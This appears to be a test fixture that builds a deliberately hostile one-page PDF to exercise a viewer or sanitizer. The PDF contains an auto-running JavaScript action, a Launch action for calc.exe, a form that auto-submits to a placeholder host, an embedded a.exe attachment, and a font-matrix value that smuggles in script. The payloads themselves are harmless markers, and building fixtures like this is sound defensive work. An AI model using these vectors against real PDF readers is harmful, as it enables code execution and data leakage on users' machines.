import { buildPdf, pdfStream } from '../support/build-pdf.ts';

const ELSEWHERE = 'https://elsewhere.example';

/**
 * A PDF of one page with scripts, a form that submits itself, a file that is attached, actions that start
 * a program or open a page, and a matrix of a font that is a script.
 */
export const HOSTILE_PDF = buildPdf([
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AcroForm << /Fields [9 0 R] /NeedAppearances true >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 11 0 R] >> >> /AA << /WC 8 0 R >> >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R 9 0 R 10 0 R 13 0 R] /AA << /O 6 0 R >> >>',
  pdfStream('BT /F1 24 Tf 72 700 Td (Harmless words) Tj ET'),
  '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [0.001 0 0 0.001 0 (0\\); window.__ran = 1; //)] >>',
  "<< /S /JavaScript /JS (app.alert('Hello'); window.__ran = 'pdf';) /Next 8 0 R >>",
  `<< /Type /Annot /Subtype /Link /Rect [60 680 400 740] /A << /S /URI /URI (${ELSEWHERE}/link) >> >>`,
  '<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (words) /Rect [60 600 400 640] /AA << /F 6 0 R /K 6 0 R >> /A << /S /SubmitForm /F (${ELSEWHERE}/submit) >> >>`,
  '<< /Type /Annot /Subtype /FileAttachment /Rect [60 500 100 540] /FS 11 0 R >>',
  '<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 12 0 R >> >>',
  pdfStream('MZ', '/Type /EmbeddedFile'),
  `<< /Type /Annot /Subtype /Screen /Rect [60 400 100 440] /A << /S /GoToR /F (${ELSEWHERE}/other.pdf) /D [0 /Fit] >> >>`,
]);
